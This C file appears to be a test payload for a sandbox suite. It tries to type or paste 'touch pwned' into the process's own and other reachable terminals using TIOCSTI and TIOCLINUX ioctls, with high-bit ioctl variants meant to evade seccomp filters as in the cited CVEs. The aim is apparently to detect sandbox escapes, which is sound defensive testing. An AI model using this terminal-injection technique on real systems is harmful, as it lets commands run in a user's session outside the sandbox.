/*
 * ttypoke.c - payload: tries to type into every terminal that it can reach,
 * as CVE-2017-5226, CVE-2019-7303 and CVE-2023-28100 did.
 *
 * What arrived is for the owner of the terminal to see (ptydrive). Says RAN.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/tiocl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static const uint64_t high[] = { 0, 1ull << 32, 1ull << 63,
				 0xffffffffull << 32 };

static void poke(int fd)
{
	char c[] = "touch pwned\n";
	struct {
		char sub;
		char room[15];
	} paste = { .sub = TIOCL_PASTESEL };

	ioctl(fd, TIOCSCTTY, 1);
	for (size_t i = 0; i < sizeof(high) / sizeof(*high); i++) {
		for (char *p = c; *p; p++)
			if (syscall(SYS_ioctl, fd, TIOCSTI | high[i], p) == 0)
				printf("ESCAPED typed into %d\n", fd);
		if (syscall(SYS_ioctl, fd, TIOCLINUX | high[i], &paste) == 0)
			printf("ESCAPED pasted into %d\n", fd);
	}
}

int main(void)
{
	static const char *const paths[] = { "/dev/tty",   "/dev/console",
					     "/dev/pts/0", "/dev/pts/1",
					     "/dev/tty0",  "/dev/tty1" };

	for (int fd = 0; fd < 3; fd++)
		poke(fd);
	setsid();
	for (size_t i = 0; i < sizeof(paths) / sizeof(*paths); i++) {
		int fd = open(paths[i], O_RDWR | O_NOCTTY | O_NONBLOCK);

		if (fd < 0)
			continue;
		poke(fd);
		close(fd);
	}
	for (int fd = 0; fd < 3; fd++)
		poke(fd);
	puts("RAN");
	return 0;
}
